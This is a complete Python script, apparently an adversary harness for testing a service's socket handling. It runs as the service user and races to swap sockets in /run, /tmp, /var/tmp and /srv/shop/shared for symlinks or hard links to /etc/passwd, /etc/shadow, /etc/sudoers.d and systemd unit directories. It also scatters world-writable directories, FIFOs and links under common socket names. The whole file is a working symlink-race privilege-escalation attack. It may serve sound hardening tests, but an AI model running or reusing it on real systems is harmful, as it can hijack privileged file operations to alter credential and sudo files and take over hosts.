"""Run as the service's user: plants links, directories and files wherever it can, faster than any check.

A socket that appears in a directory of this user is replaced by a link at once. A program that then changes the
socket by its path changes the target of the link.
"""

from __future__ import annotations

import os
import random
import select
import stat
import sys
import time

TYPE_CHECKING = False
if TYPE_CHECKING:
    from typing import Callable, Iterator

VICTIMS = (
    '/usr/local/lib/landfall/landfall-host',
    '/etc/passwd',
    '/etc/shadow',
    '/etc/sudoers.d',
    '/etc/systemd/system',
    '/run/systemd/system',
)
NAMES = ('shop.sock', 'shop', 'notify', 'rehearsal.sock', 'gunicorn.ctl', 'x')
ROOTS = ('/run', '/srv/shop/shared', '/tmp', '/var/tmp')


def main() -> None:
    places: list[str] = []
    looked, until_end_of_file = 0.0, len(sys.argv) > 1
    while not (until_end_of_file and select.select([0], [], [], 0)[0]):
        if time.monotonic() - looked > 0.2:
            places, looked = list(writable()), time.monotonic()
        for place in places:
            swap_sockets(place)
        if places and random.random() < 0.2:
            plant(random.choice(places))
        time.sleep(0.0005)


def writable() -> Iterator[str]:
    yield from (
        path
        for path in (
            '/run',
            '/run/shop',
            '/run/landfall',
            '/run/landfall/services',
            '/run/landfall/services/shop',
        )
        if os.access(path, os.W_OK)
    )
    for root in ROOTS:
        for directory, names, _ in os.walk(root):
            names[:] = [name for name in names if not os.path.islink(os.path.join(directory, name))][:50]
            if os.access(directory, os.W_OK):
                yield directory


def swap_sockets(place: str) -> None:
    try:
        for entry in os.scandir(place):
            if stat.S_ISSOCK(entry.stat(follow_symlinks=False).st_mode):
                os.unlink(entry.path)
                os.symlink(random.choice(VICTIMS), entry.path)
    except OSError:
        pass


def plant(place: str) -> None:
    path = os.path.join(place, random.choice(NAMES))
    try:
        if os.path.lexists(path):
            os.rmdir(path) if os.path.isdir(path) and not os.path.islink(path) else os.unlink(path)
        else:
            ways: tuple[Callable[[], None], ...] = (
                lambda: os.symlink(random.choice(VICTIMS), path),
                lambda: os.mkdir(path, 0o777),
                lambda: os.link(random.choice(VICTIMS), path),
                lambda: os.mkfifo(path),
                lambda: open(path, 'w').close(),
            )
            random.choice(ways)()
    except OSError:
        pass


if __name__ == '__main__':
    main()
